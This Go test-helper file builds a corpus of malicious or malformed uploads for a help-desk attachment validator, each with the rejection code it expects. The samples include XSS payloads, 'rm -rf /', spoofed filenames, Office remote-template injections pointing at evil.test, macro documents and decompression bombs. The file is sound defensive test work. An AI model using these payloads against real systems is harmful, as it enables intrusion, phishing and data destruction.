package attachtest

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/parley-desk/parley/backend/desk"
)

// refused is a file that nobody takes, and why.
type refused struct {
	name string
	body []byte
	code desk.Code
}

// typed is a document of Office that says this of its parts, which are these.
func typed(types string, parts ...string) []byte {
	all := []Part{{Name: "[Content_Types].xml", Body: types}}
	for _, name := range parts {
		all = append(all, Part{Name: name, Body: "a"})
	}
	return Archive(all...)
}

// many is an archive of so many files.
func many(n int) []byte {
	parts := make([]Part, n)
	for i := range parts {
		parts[i] = Part{Name: fmt.Sprint(i), Stored: true}
	}
	return Archive(parts...)
}

// templated is a document with a template elsewhere, of which this is said as well.
func templated(more string) []byte {
	said := strings.Replace(Relations(Office+"attachedTemplate", "https://evil.test/a.dotm", true), "/></", " "+more+"/></", 1)
	return Document(DOCX, "word/document.xml", Part{Name: relations, Body: said})
}

// broken is a file with one byte changed.
func broken(body []byte, at int) []byte {
	body = bytes.Clone(body)
	body[at] ^= 1
	return body
}

// changed is a file that a program wrote, with another byte so far after a mark.
func changed(name, mark string, at int, to byte) []byte {
	body := Made(name)
	body = bytes.Clone(body)
	body[bytes.Index(body, []byte(mark))+at] = to
	return body
}

// Refused are files of which nothing is ever kept.
func Refused() []File {
	small := PNG(Scene(30, 30))
	photo := JPEG(Scene(30, 30))
	page := []byte("<!DOCTYPE html><script>alert(document.domain)</script>")
	drawing := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)
	program := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 400)...)
	text := []byte("Hello")
	archive := append([]byte("PK\x03\x04"), make([]byte, 100)...)
	scans := photo[:len(photo)-2]
	for range 100 {
		scans = append(bytes.Clone(scans), "\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00"...)
	}
	corpus := []refused{
		{"nothing.png", nil, desk.EmptyFile},
		{"large.pdf", append([]byte(PDF), make([]byte, 10<<20)...), desk.FileTooLarge},
		// By their names.
		{"drawing.svg", drawing, desk.FileNotAllowed}, {"drawing.svgz", drawing, desk.FileNotAllowed}, {"page.html", page, desk.FileNotAllowed},
		{"page.htm", page, desk.FileNotAllowed}, {"page.xhtml", page, desk.FileNotAllowed}, {"page.mhtml", page, desk.FileNotAllowed},
		{"data.xml", []byte("<?xml version='1.0'?><a/>"), desk.FileNotAllowed}, {"code.js", []byte("alert(1)"), desk.FileNotAllowed},
		{"code.mjs", []byte("alert(1)"), desk.FileNotAllowed}, {"app.hta", page, desk.FileNotAllowed}, {"go.lnk", []byte("L\x00\x00\x00"), desk.FileNotAllowed},
		{"go.url", []byte("[InternetShortcut]\nURL=file://x"), desk.FileNotAllowed}, {"go.scf", []byte("[Shell]\nIconFile=\\\\x\\y"), desk.FileNotAllowed},
		{"disk.iso", make([]byte, 100), desk.FileNotAllowed}, {"setup.exe", program, desk.FileNotAllowed}, {"setup.msi", []byte("\xd0\xcf\x11\xe0"), desk.FileNotAllowed},
		{"run.bat", []byte("del *"), desk.FileNotAllowed}, {"run.cmd", []byte("del *"), desk.FileNotAllowed}, {"run.ps1", text, desk.FileNotAllowed},
		{"run.vbs", text, desk.FileNotAllowed}, {"run.jar", archive, desk.FileNotAllowed}, {"run.sh", []byte("#!/bin/sh\nrm -rf /"), desk.FileNotAllowed},
		{"run.desktop", text, desk.FileNotAllowed}, {"book.docm", archive, desk.FileNotAllowed}, {"book.xlsm", archive, desk.FileNotAllowed},
		{"book.docx", archive, desk.FileDamaged}, {"all.zip", archive, desk.FileDamaged}, {"lib.dll", program, desk.FileNotAllowed},
		{"screen.scr", program, desk.FileNotAllowed}, {"font.ttf", []byte("\x00\x01\x00\x00"), desk.FileNotAllowed}, {"picture.webp", []byte("RIFF\x00\x00\x00\x00WEBP"), desk.FileNotAllowed},
		{"picture.bmp", []byte("BM\x00\x00"), desk.FileNotAllowed}, {"picture.tiff", []byte("II*\x00"), desk.FileNotAllowed}, {"noname", text, desk.FileNotAllowed},
		{"noname", []byte(PDF), desk.FileNotAllowed}, {"invoice.pdf.exe", program, desk.FileNotAllowed}, {"invoice.png.html", page, desk.FileNotAllowed},
		{"photo_\u202egnp.exe", program, desk.FileNotAllowed}, {"photo.png\u200b.exe", small, desk.FileNotAllowed}, {"a.png/b.exe", program, desk.FileNotAllowed},
		{"photo.png .exe", program, desk.FileNotAllowed}, {"photo.p\u0000ng.exe", program, desk.FileNotAllowed},
		// By their content.
		{"drawing.png", drawing, desk.FileNotAllowed}, {"page.png", page, desk.FileNotAllowed}, {"setup.png", program, desk.FileNotAllowed},
		{"setup.pdf", program, desk.FileNotAllowed}, {"page.pdf", page, desk.FileNotAllowed}, {"bill.png", []byte(PDF), desk.FileMismatch},
		{"photo.pdf", photo, desk.FileMismatch}, {"photo.txt", photo, desk.FileMismatch}, {"page.txt", page, desk.FileNotAllowed},
		{"page.csv", page, desk.FileNotAllowed}, {"drawing.txt", drawing, desk.FileNotAllowed}, {"space.txt", append([]byte(" \r\n\t\xef\xbb\xbf"), page...), desk.FileNotAllowed},
		{"shell.txt", []byte("#!/bin/sh"), desk.FileNotAllowed}, {"zero.txt", []byte("a\x00b"), desk.FileNotAllowed}, {"escape.txt", []byte("\x1b[31m"), desk.FileNotAllowed},
		{"program.txt", program, desk.FileNotAllowed}, {"bill.gif", append([]byte("\n"), PDF...), desk.FileMismatch}, {"late.pdf", append([]byte("<html>\n"), PDF...), desk.FileNotAllowed},
		{"archive.pdf", append(bytes.Clone(archive), PDF...), desk.FileDamaged}, {"archive.png", Made("some.zip"), desk.FileMismatch}, {"begin.png", append([]byte("GIF"), small...), desk.FileNotAllowed},
		{"link.txt", []byte("[InternetShortcut]\nURL=file://x"), desk.FileNotAllowed},
		{"mail.txt", []byte("MIME-Version: 1.0\nContent-Type: text/html\n\n<script>"), desk.FileNotAllowed},
		// Damaged, or made to look so.
		{"half.png", small[:len(small)/2], desk.FileDamaged}, {"head.png", small[:20], desk.FileDamaged}, {"half.jpg", photo[:len(photo)/2], desk.FileDamaged},
		{"head.jpg", photo[:4], desk.FileDamaged}, {"half.gif", GIF(30, 30, 2)[:900], desk.FileDamaged}, {"head.gif", []byte("GIF89a"), desk.FileDamaged},
		{"script.gif", []byte("GIF89a/*\x00\x00\x00\x00\x00*/=1;alert(1)"), desk.FileDamaged}, {"script.jpg", []byte("\xff\xd8\xff\xe0/*alert(1)"), desk.FileDamaged},
		{"none.png", PNGSaying(0, 10, 8, 6), desk.FileDamaged}, {"scans.jpg", scans, desk.FileDamaged},
		{"again.jpg", JPEGScanned(0xc0, 100, 100, 2), desk.FileDamaged}, {"often.jpg", JPEGScanned(0xc2, 100, 100, 33), desk.FileDamaged},
		{"short.png", PNGSaying(3000, 3000, 8, 6), desk.FileDamaged},
		// Too much of it.
		{"bomb.png", PNGSaying(20_000, 20_000, 8, 6), desk.ImageTooLarge}, {"long.png", PNGSaying(100_000, 1, 8, 0), desk.ImageTooLarge},
		{"many.png", PNGSaying(8000, 8000, 1, 0), desk.ImageTooLarge}, {"deep.png", PNGSaying(4500, 4500, 16, 6), desk.ImageTooLarge},
		{"most.png", PNGSaying(0x7fffffff, 0x7fffffff, 1, 0), desk.FileDamaged},
		{"bomb.jpg", JPEGSaying(0xc0, 20_000, 20_000), desk.ImageTooLarge}, {"fine.jpg", JPEGSaying(0xc2, 4000, 4000), desk.ImageTooLarge},
		{"finest.jpg", JPEGScanned(0xc2, 3000, 3000, 7), desk.ImageTooLarge},
		{"bomb.gif", []byte("GIF89a\xff\xff\xff\xff\x00\x00\x00"), desk.ImageTooLarge}, {"frames.gif", GIF(2, 2, 201), desk.ImageTooLarge},
		{"moving.gif", GIFSaying(4000, 4000, 10), desk.ImageTooLarge},
		// More pictures stand where a careless reader sees the end.
		{"text.gif", GIFWith(GIF(2, 2, 201), "\x21\x01\x00\x3b"+strings.Repeat("\x00", 12)), desk.ImageTooLarge},
		{"program.gif", GIFWith(GIF(2, 2, 201), "\x21\xff\x00\x3b"+strings.Repeat("\x00", 0x3c)), desk.ImageTooLarge},
		{"unknown.gif", GIFWith(GIF(2, 2, 1), "\x21\x02\x00"), desk.FileDamaged}, {"block.gif", GIFWith(GIF(2, 2, 1), "\x2d\x00"), desk.FileDamaged},
		// Never: other programs' documents, and what runs by itself.
		{"book.pptm", Document(DOCX, "word/document.xml"), desk.FileNotAllowed}, {"book.dotx", Document(DOCX, "word/document.xml"), desk.FileNotAllowed},
		{"letter.docx.exe", Made("letter.docx"), desk.FileNotAllowed}, {"letter.docx .exe", Made("letter.docx"), desk.FileNotAllowed},
		{"letter_\u202excod.exe", program, desk.FileNotAllowed}, {"film.html", Made("film.mp4"), desk.FileNotAllowed}, {"film.mov", Made("film.mov"), desk.FileNotAllowed},
		{"film.mkv", Made("film.mkv"), desk.FileNotAllowed}, {"old.doc", Made("old.doc"), desk.FileNotAllowed}, {"all.7z", []byte("7z\xbc\xaf\x27\x1c"), desk.FileNotAllowed},
		{"app.apk", Made("some.zip"), desk.FileNotAllowed}, {"picture.heic", Box("ftyp", "heic\x00\x00\x00\x00mif1heic"), desk.FileNotAllowed},
		// Macros, whatever they are called.
		{"vba.docx", Document(DOCX, "word/document.xml", Part{Name: "word/vbaProject.bin", Body: "a"}), desk.FileHasMacros},
		{"case.docx", Document(DOCX, "word/document.xml", Part{Name: "WORD/VBAPROJECT.BIN", Body: "a"}), desk.FileHasMacros},
		{"docm.docx", Document(DOCM, "word/document.xml"), desk.FileHasMacros},
		{"other.docx", typed(Types("word/document.xml", DOCX, "word/a.bin", VBA), "word/document.xml", "word/a.bin"), desk.FileHasMacros},
		{"default.xlsx", typed(`<Types><Default Extension="bin" ContentType="`+VBA+`"/><Override PartName="/xl/workbook.xml" ContentType="`+XLSX+`"/></Types>`,
			"xl/workbook.xml", "xl/a.bin"), desk.FileHasMacros},
		{"sheet.xlsx", Document(XLSX, "xl/workbook.xml", Part{Name: "xl/macrosheets/sheet1.xml", Body: "a"}), desk.FileHasMacros},
		{"control.docx", Document(DOCX, "word/document.xml", Part{Name: "word/activeX/activeX1.xml", Body: "a"}), desk.FileHasMacros},
		{"basic.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "Basic/script-lc.xml", Body: "a"}), desk.FileHasMacros},
		{"vba.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "word/vbaProject.bin", Body: "a"}), desk.FileHasMacros},
		{"both.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "[Content_Types].xml", Body: "<Types/>"}), desk.FileNotAllowed},
		{"python.ods", OpenDocument(desk.ODS.MediaType(), Part{Name: "Scripts/python/a.py", Body: "a"}), desk.FileHasMacros},
		// What is fetched when it is opened, wherever from and however it is written.
		{"template.docx", Related(Office+"attachedTemplate", "https://evil.test/a.dotm", true), desk.FileFetches},
		{"http.docx", Related(Office+"attachedTemplate", "http://evil.test/a.dotm", true), desk.FileFetches},
		{"file.docx", Related(Office+"attachedTemplate", `file:///C:\a.dotm`, true), desk.FileFetches},
		{"share.docx", Related(Office+"attachedTemplate", `\\evil.test\share\a.dotm`, true), desk.FileFetches},
		{"slashes.docx", Related(Office+"attachedTemplate", "//evil.test/share/a.dotm", true), desk.FileFetches},
		{"escaped.docx", Related(Office+"attachedTemplate", "%5C%5Cevil.test%5Ca.dotm", true), desk.FileFetches},
		{"upper.docx", Related(Office+"attachedTemplate", " HTTPS://evil.test/a.dotm", true), desk.FileFetches},
		{"odd.docx", Related(Office+"attachedTemplate", "mhtml:http://evil.test/a.html!x", true), desk.FileFetches},
		{"object.docx", Related(Office+"oleObject", "ms-msdt:/id", true), desk.FileFetches},
		{"pixel.docx", Related(Office+"image", "https://evil.test/a.png", true), desk.FileFetches},
		{"frame.docx", Related(Office+"frame", "http://evil.test/a.html", true), desk.FileFetches},
		{"mode.docx", Document(DOCX, "word/document.xml", Part{Name: "word/_rels/settings.xml.RELS",
			Body: `<r:Relationships xmlns:r="a"><r:relationship TYPE="` + Office + `attachedTemplate" TARGETMODE="external" TARGET="&#x68;ttps://evil.test/"/></r:Relationships>`}), desk.FileFetches},
		{"unsaid.docx", Related(Office+"attachedTemplate", "https://evil.test/a.dotm", false), desk.FileFetches},
		{"like.docx", Related("http://evil.test/nohyperlink", "https://evil.test/", true), desk.FileFetches},
		{"book.xlsx", Document(XLSX, "xl/workbook.xml", Part{Name: "xl/externalLinks/_rels/externalLink1.xml.rels",
			Body: Relations(Office+"externalLinkPath", `file:///\\evil.test\share\a.xlsx`, true)}), desk.FileFetches},
		{"slides.pptx", Document(PPTX, "ppt/presentation.xml", Part{Name: "ppt/slides/_rels/slide1.xml.rels",
			Body: Relations(Office+"video", "https://evil.test/a.mp4", true)}), desk.FileFetches},
		// What different programs read differently.
		{"upper2.docx", templated(`TYPE="` + Hyperlink + `"`), desk.FileDamaged}, {"space2.docx", templated(`xmlns:x="y" x:Type="` + Hyperlink + `"`), desk.FileDamaged},
		{"lower2.docx", templated(`target="a"`), desk.FileDamaged}, {"target2.docx", templated(`Target="a"`), desk.FileDamaged},
		{"mode2.docx", templated(`targetMode="Internal"`), desk.FileDamaged},
		{"escape2.docx", Related(Office+"attachedTemplate", "%5C%5Cevil.test%5Ca%ZZ.dotm", true), desk.FileDamaged},
		{"given.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: `<!DOCTYPE a [<!ATTLIST Relationship Target CDATA "https://evil.test/">]>` +
			Relations(Office+"attachedTemplate", "a.dotm", true)}), desk.FileDamaged},
		{"kind2.docx", typed(Types("word/document.xml", DOCX, "word/a.bin", VBA+`" xmlns:x="y" x:ContentType="a`), "word/document.xml", "word/a.bin"), desk.FileDamaged},
		{"damaged.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "<Relationships"}), desk.FileDamaged},
		{"wide16.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "\xff\xfe<\x00a\x00/\x00>\x00"}), desk.FileDamaged},
		{"endless.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: strings.Repeat(" ", 5<<20)}), desk.ArchiveTooLarge},
		// Locked.
		{"locked.docx", Compound("EncryptedPackage"), desk.FileLocked}, {"entry.docx", Locked(Document(DOCX, "word/document.xml")), desk.FileLocked},
		{"locked.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "META-INF/manifest.xml", Body: "<a><manifest:encryption-data/></a>"}), desk.FileLocked},
		{"whole.ods", OpenDocument(desk.ODS.MediaType(), Part{Name: "encrypted-package", Body: "a"}), desk.FileLocked},
		{"old.docx", Made("old.doc"), desk.FileNotAllowed},
		// In other clothes.
		{"plain.docx", Made("some.zip"), desk.FileMismatch}, {"letter.zip", Made("letter.docx"), desk.FileMismatch}, {"table.docx", Made("table.xlsx"), desk.FileMismatch},
		{"letter.ods", Made("letter.odt"), desk.FileMismatch}, {"slides.odt", Made("slides.odp"), desk.FileNotAllowed}, {"film.webm", Made("film.mp4"), desk.FileMismatch},
		{"tone.mp3", Made("tone.ogg"), desk.FileMismatch}, {"tone.mp4", Made("tone.m4a"), desk.FileMismatch}, {"letter.png", Made("letter.docx"), desk.FileMismatch},
		{"text.docx", text, desk.FileMismatch}, {"photo.mp4", photo, desk.FileMismatch}, {"film.png", Made("film.mp4"), desk.FileMismatch},
		{"film.mp4", Made("film.mov"), desk.FileNotAllowed}, {"mkv.webm", Made("film.mkv"), desk.FileNotAllowed}, {"theora.ogg", Made("theora.ogg"), desk.FileNotAllowed},
		{"still.mp4", append(Box("ftyp", "heic\x00\x00\x00\x00mif1heic"), Box("moov", "")...), desk.FileNotAllowed},
		{"page.mp4", page, desk.FileNotAllowed}, {"page.webm", page, desk.FileNotAllowed}, {"page.mp3", page, desk.FileNotAllowed}, {"page.ogg", page, desk.FileNotAllowed},
		{"page.docx", page, desk.FileNotAllowed}, {"page.zip", page, desk.FileNotAllowed}, {"drawing.webp", drawing, desk.FileNotAllowed},
		{"setup.mp3", program, desk.FileNotAllowed}, {"setup.zip", program, desk.FileNotAllowed}, {"wave.webp", []byte("RIFF\x04\x00\x00\x00WAVEfmt \x00\x00"), desk.FileNotAllowed},
		{"said.mp3", append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), page...), desk.FileNotAllowed},
		{"short.mp3", Made("bare.mp3")[:500], desk.FileNotAllowed}, {"sum.ogg", broken(Made("tone.ogg"), 30), desk.FileNotAllowed},
		{"book.odt", OpenDocument("application/epub+zip"), desk.FileNotAllowed}, {"second.odt", Archive(Part{Name: "a"}, Part{Name: "mimetype", Body: desk.ODT.MediaType(), Stored: true}), desk.FileMismatch},
		{"packed.odt", Archive(Part{Name: "mimetype", Body: desk.ODT.MediaType()}), desk.FileNotAllowed},
		{"both.docx", typed(Types("word/document.xml", DOCX, "xl/workbook.xml", XLSX), "word/document.xml", "xl/workbook.xml"), desk.FileNotAllowed},
		{"none.docx", typed(Types("word/document.xml", DOCX)), desk.FileNotAllowed},
		// Two things at once.
		{"before.zip", append(bytes.Clone(page), Made("some.zip")...), desk.FileNotAllowed}, {"setup2.zip", append(bytes.Clone(program), Made("some.zip")...), desk.FileNotAllowed},
		{"behind.zip", append(Made("some.zip"), page...), desk.FileDamaged}, {"behind.docx", append(Made("letter.docx"), page...), desk.FileDamaged},
		{"behind.mp4", append(Made("film.mp4"), page...), desk.FileNotAllowed}, {"behind.webm", append(Made("film.webm"), page...), desk.FileNotAllowed},
		{"archive.mp4", append(Made("film.mp4"), Made("some.zip")...), desk.FileNotAllowed}, {"first.zip", append([]byte("PK\x03\x04"+string(page)), Made("some.zip")...), desk.FileDamaged},
		// Archives that are to be read in more ways than one, or unpack without end.
		{"half.docx", Made("letter.docx")[:2000], desk.FileDamaged}, {"twice.zip", Archive(Part{Name: "a", Body: "1"}, Part{Name: "a", Body: "2"}), desk.FileDamaged},
		{"cases.docx", Document(DOCX, "word/document.xml", Part{Name: "word/Document.xml", Body: "a"}), desk.FileDamaged},
		{"names.zip", Directory(Made("some.zip"), func(line []byte) { line[46] ^= 1 }), desk.FileDamaged},
		{"same.zip", Directory(Archive(Part{Name: "a", Body: "1"}, Part{Name: "b", Body: "2"}), func(line []byte) { copy(line[42:46], "\x00\x00\x00\x00") }), desk.FileDamaged},
		{"outside.zip", Directory(Made("some.zip"), func(line []byte) { copy(line[20:24], "\xff\xff\xff\x7f") }), desk.FileDamaged},
		// The wide form, saying two things or nothing.
		{"count64.zip", changed("wide.zip", "PK\x06\x06", 32, 3), desk.FileDamaged}, {"disk64.zip", changed("wide.zip", "PK\x06\x06", 20, 1), desk.FileDamaged},
		{"end64.zip", changed("wide.zip", "PK\x06\x06", 4, 45), desk.FileDamaged}, {"where64.zip", changed("wide.zip", "PK\x06\x07", 8, 1), desk.FileDamaged},
		{"disks64.zip", changed("wide.zip", "PK\x06\x07", 16, 2), desk.FileDamaged}, {"old64.zip", changed("wide.zip", "PK\x05\x06", 10, 3), desk.FileDamaged},
		{"begin64.zip", changed("wide.zip", "PK\x06\x06", 48, 1), desk.FileDamaged}, {"none64.zip", changed("wide.zip", "PK\x06\x07", 0, 'Q'), desk.FileDamaged},
		{"field64.zip", changed("wide.zip", "PK\x01\x02", 46+5, 2), desk.FileDamaged}, {"short64.zip", changed("wide.zip", "PK\x01\x02", 46+5+2, 8), desk.FileDamaged},
		{"packed64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+8+7, 0x80), desk.FileDamaged}, {"far64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+7, 0xff), desk.ArchiveTooLarge},
		{"size64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+3, 0x10), desk.ArchiveTooLarge},
		{"bomb.zip", Unpacking(Made("some.zip"), 1<<30), desk.ArchiveTooLarge}, {"bomb.docx", Unpacking(Made("letter.docx"), 1<<30), desk.ArchiveTooLarge},
		{"many.zip", many(10_001), desk.ArchiveTooLarge}, {"zeros.docx", typed(strings.Repeat(" ", 20<<20)), desk.ArchiveTooLarge},
		{"lying.docx", Unpacking(typed(strings.Repeat(" ", 20<<20)), 100), desk.FileDamaged}, {"entities.docx", typed(`<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>`), desk.FileDamaged},
		{"types.docx", typed("no XML at all <"), desk.FileDamaged},
		// Pictures of the newest sort.
		{"half.webp", Made("lossy.webp")[:300], desk.FileDamaged}, {"head.webp", Made("lossy.webp")[:24], desk.FileDamaged}, {"moving.webp", Made("moving.webp"), desk.ImageMoving},
		{"bomb.webp", WebPSaying(16_000, 16_000), desk.ImageTooLarge}, {"long.webp", WebPSaying(16_000, 1), desk.ImageTooLarge},
		{"lying.webp", WebPLying(16_000, 16_000), desk.FileDamaged}, {"none.webp", webp("VP8X", webpHead(0, 10, 10)), desk.FileDamaged},
		{"veil.webp", webp("VP8X", webpHead(1<<4, 5000, 4000)), desk.ImageTooLarge},
	}
	files := make([]File, len(corpus))
	for i, c := range corpus {
		files[i] = File{Name: c.name, Body: c.body, Code: c.code}
	}
	return files
}
